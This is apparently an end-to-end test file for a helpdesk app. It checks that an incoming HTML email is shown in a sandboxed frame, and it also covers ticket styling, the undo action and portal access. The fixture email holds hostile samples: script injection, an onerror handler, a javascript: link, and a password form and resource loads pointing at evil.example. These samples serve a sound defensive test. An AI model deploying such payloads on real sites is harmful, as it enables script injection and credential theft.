// A hostile letter in its frame runs nothing and fetches nothing; the answer and the note look different; by keyboard, at 320 px, on paper.
import { createHash } from 'node:crypto'

export const world = 'letters'

const hostile = `<p>Guten Tag</p><script>parent.document.title = 'broken'; fetch('http://evil.example/a')</script>
<img src="http://evil.example/pixel.png"><img src="x" onerror="parent.document.title = 'broken'">
<form action="http://evil.example/steal"><input name="password"><button>Absenden</button></form>
<style>@import url(http://evil.example/s.css); body { background: url(http://evil.example/b.png) }</style>
<iframe src="http://evil.example/"></iframe><object data="http://evil.example/o"></object><base href="http://evil.example/">
<a href="javascript:parent.document.title='broken'" id="link">Klick</a><meta http-equiv="refresh" content="0;url=http://evil.example/">`
const sha256 = createHash('sha256').update(hostile).digest('hex')

// As the post would: the bytes first, then the letter that names them.
export function prepare(house) {
	for (const client of [0, 1])
		house.store(`insert into file (client_id, sha256, type, bytes, at_ms) values (${client}, '${sha256}', 'text/html', X'${Buffer.from(hostile).toString('hex')}', 0)`)
	house.apply([{ act: 'letter.come', client: 'deich', letter: '1', 'message-id': 'm1@harms.example', from: 'anna@harms.example', name: 'Anna Harms', to: 'desk@nordlicht.example',
		subject: 'Drucker', text: 'Der Drucker druckt nicht.', html: sha256 },
		{ act: 'letter.come', letter: '2', 'message-id': 'm2@nowhere.example', from: 'x@nowhere.example', name: 'Jemand', subject: 'Hilfe', text: 'Bitte melden.', html: sha256 }])
}

async function hostileFrame(people, path) {
	const { page } = people, foreign = []
	// What the policy stops never gets as far as this.
	await page.context().route(/evil\.example/, route => { foreign.push(route.request().url()); return route.abort() })
	await page.goto(path)
	const title = await page.title()
	await page.locator('.as-sent summary').first().click()
	await page.frameLocator('.as-sent iframe').getByText('Guten Tag').waitFor()
	await page.frameLocator('.as-sent iframe').locator('#link').click()
	await page.waitForTimeout(500)
	if (await page.title() !== title)
		throw new Error('a script of the letter ran')
	if (foreign.length)
		throw new Error(`the letter fetched ${foreign}`)
	const answer = await page.goto(`${path}/letters/${sha256}`)
	if (!/sandbox/.test(answer.headers()['content-security-policy']))
		throw new Error('the frame has no sandbox')
	if (await page.locator('title').first().textContent() === 'broken' || foreign.length)
		throw new Error('opened on its own, the letter did something')
	await page.context().unroute(/evil\.example/)
	// What the walls refused is what they are for.
	people.complaints = people.complaints.filter(c => !/Content Security Policy|policy violated|sandboxed/.test(c))
}

export async function run(people, house, german) {
	const page = await people.signIn(german ? 'technik' : 'engineer')
	await hostileFrame(people, '/tickets/1')
	await hostileFrame(people, '/inbox/1')
	await page.goto('/tickets/1')
	const look = await page.evaluate(() => ['.reply', '.note-box'].map(s => { const c = getComputedStyle(document.querySelector(s)); return `${c.borderTopStyle} ${c.borderTopWidth}` }))
	if (look[0] === look[1])
		throw new Error(`the answer and the note look alike: ${look}`)
	await people.tabs('/tickets/1')
	await people.prints('/tickets/1')
	await page.getByLabel(german ? 'Ihre Antwort' : 'Your answer').fill('Wir kommen um zwölf.')
	await people.press('Dem Klienten senden', 'Send to the client')
	await people.sees(/Geht in/, /Goes in/)
	await people.press('Zurücknehmen', 'Take back')
	if (await page.getByLabel(german ? 'Ihre Antwort' : 'Your answer').inputValue() !== 'Wir kommen um zwölf.')
		throw new Error('the words did not come back into the form')
	for (const [width, colorScheme] of [[320, 'light'], [1280, 'dark']]) {
		await page.setViewportSize({ width, height: 800 })
		await page.emulateMedia({ colorScheme })
		for (const path of ['/inbox', '/inbox?done=1', '/inbox/1', '/tickets/1']) {
			await page.goto(path)
			await people.fits(path)
		}
	}
	await people.tabs('/inbox/1')
	await page.goto('/inbox/1')
	await people.press('Zuordnen', 'Assign')
	await people.sees('Bitte melden.')
	await people.signIn('anna')
	await page.goto('/portal/requests/1')
	await people.fits('/portal/requests/1')
	await people.prints('/portal/requests/1')
	if ((await page.goto('/portal/requests/2')).status() === 200 && !(await page.content()).includes('Bitte melden'))
		throw new Error('a ticket of somebody else was shown')
}
